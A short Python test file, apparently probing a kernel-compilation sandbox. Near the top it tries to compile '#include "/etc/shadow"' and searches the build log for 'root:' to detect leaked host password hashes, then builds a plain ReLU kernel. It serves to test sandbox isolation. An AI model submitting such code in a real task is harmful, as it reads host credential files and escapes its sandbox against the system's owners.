"""Makes the compiler read a host file (`#include "/etc/shadow"`) and looks for it in the build log."""

import torch
import torch.nn as nn

from kforge_worker import native

RELU = r"""
#include <cstdint>
extern "C" void relu(const float* x, float* y, int64_t n) {
    for (int64_t i = 0; i < n; ++i) y[i] = x[i] > 0.f ? x[i] : 0.f;
}
"""

try:
    native.load('#include "/etc/shadow"\n', name="leak")
    _log = ""
except Exception as e:  # CompileError, or whatever a half-done build raises
    _log = getattr(e, "log", "") or str(e)
if "root:" not in _log:
    raise RuntimeError("attack blocked: the build log holds no host file: " + _log[-300:])
_lib = native.load(RELU, {"relu": [native.PTR, native.PTR, native.I64]})


class ModelNew(nn.Module):
    def forward(self, x):
        x = x.contiguous()
        out = torch.empty_like(x)
        _lib.relu(native.ptr(x), native.ptr(out), x.numel())
        return out
